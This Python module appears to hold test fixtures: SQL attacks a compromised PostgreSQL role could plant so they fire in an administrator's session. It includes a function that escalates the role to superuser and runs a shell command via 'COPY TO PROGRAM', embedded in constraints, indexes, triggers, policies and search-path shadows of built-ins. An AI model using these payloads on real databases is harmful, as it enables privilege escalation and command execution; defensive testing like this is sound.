"""Attacks from a compromised RA app: objects of ra_app that run code when an administrator's session calls them."""

from __future__ import annotations

from pathlib import Path

# Takes off a role that was only put on, then does what only a superuser can: in the catalog, and on the disk.
# `evil` may stand in an index; what it calls may do anything.
EVIL = """
CREATE FUNCTION evil_now(i integer) RETURNS integer LANGUAGE plpgsql AS $evil$
DECLARE
    wish text;
BEGIN
    FOREACH wish IN ARRAY ARRAY['RESET SESSION AUTHORIZATION', 'RESET ROLE', 'ALTER ROLE ra_app SUPERUSER',
                                $wish$COPY (SELECT 1) TO PROGRAM 'touch {marker}'$wish$]
    LOOP
        BEGIN
            EXECUTE wish;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    RETURN i;
END
$evil$;
CREATE FUNCTION evil(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN {schema}.evil_now(i); END';
"""

TRAP = "CREATE TABLE ra_trap (i integer); INSERT INTO ra_trap VALUES (1);"

ATTACKS = {
    "check": "CREATE TABLE ra_trap (i integer CHECK (evil(i) > 0)); INSERT INTO ra_trap VALUES (1);",
    "default": "CREATE TABLE ra_trap (i integer DEFAULT evil(1)); INSERT INTO ra_trap DEFAULT VALUES;",
    "generated": (
        "CREATE TABLE ra_trap (i integer, j integer GENERATED ALWAYS AS (evil(i)) STORED);"
        "INSERT INTO ra_trap VALUES (1);"
    ),
    "index": TRAP + "CREATE INDEX ON ra_trap (evil(i));",
    "partial index": TRAP + "CREATE INDEX ON ra_trap (i) WHERE evil(i) > 0;",
    "domain": (
        "CREATE DOMAIN trapped AS integer CHECK (evil(VALUE) > 0);"
        "CREATE TABLE ra_trap (i trapped); INSERT INTO ra_trap VALUES (1);"
    ),
    "view": TRAP + "CREATE VIEW ra_seen AS SELECT evil(i) FROM ra_trap;",
    "materialized view": TRAP + "CREATE MATERIALIZED VIEW ra_seen AS SELECT evil(i) FROM ra_trap;",
    "rule": TRAP + "CREATE RULE also AS ON INSERT TO ra_trap DO ALSO SELECT evil(1);",
    "policy": TRAP
    + "ALTER TABLE ra_trap ENABLE ROW LEVEL SECURITY; ALTER TABLE ra_trap FORCE ROW LEVEL SECURITY;"
    + "CREATE POLICY trap ON ra_trap USING (evil(i) > 0);",
    "trigger": TRAP
    + "CREATE FUNCTION fire() RETURNS trigger LANGUAGE plpgsql AS"
    + " 'BEGIN PERFORM {schema}.evil_now(1); RETURN NEW; END';"
    + "CREATE TRIGGER fire BEFORE INSERT ON ra_trap FOR EACH ROW EXECUTE FUNCTION fire();"
    + "ALTER TABLE ra_trap ENABLE ALWAYS TRIGGER fire;",
    # They fit better than pg_catalog's, and so are chosen where both stand in the search path.
    "format": TRAP
    + "CREATE FUNCTION format(text, name, name) RETURNS text LANGUAGE plpgsql AS"
    + " 'BEGIN PERFORM {schema}.evil_now(1); RETURN ''SELECT 1''; END';",
    "operator": TRAP
    + "CREATE FUNCTION atleast(double precision, integer) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS"
    + " 'BEGIN PERFORM {schema}.evil(1); RETURN true; END';"
    + "CREATE OPERATOR >= (LEFTARG = double precision, RIGHTARG = integer, FUNCTION = atleast);",
    "aggregate": TRAP
    + "CREATE FUNCTION gather(text[], text) RETURNS text[] LANGUAGE plpgsql AS"
    + " 'BEGIN PERFORM {schema}.evil_now(1); RETURN $1 || $2; END';"
    + "CREATE AGGREGATE array_agg(text) (SFUNC = gather, STYPE = text[], INITCOND = '{{}}');",
    "cast": TRAP
    + "CREATE FUNCTION turn(ra_trap) RETURNS integer LANGUAGE sql AS 'SELECT {schema}.evil(1)';"
    + "CREATE CAST (ra_trap AS integer) WITH FUNCTION turn(ra_trap) AS IMPLICIT;",
    "large object": TRAP + "SELECT lo_create(0);",
}


def attack(name: str, schema: str, marker: Path) -> str:
    """The statements of one attack, for a session of ra_app that creates its objects in `schema`."""
    return (EVIL + ATTACKS[name]).format(schema=schema, marker=marker)
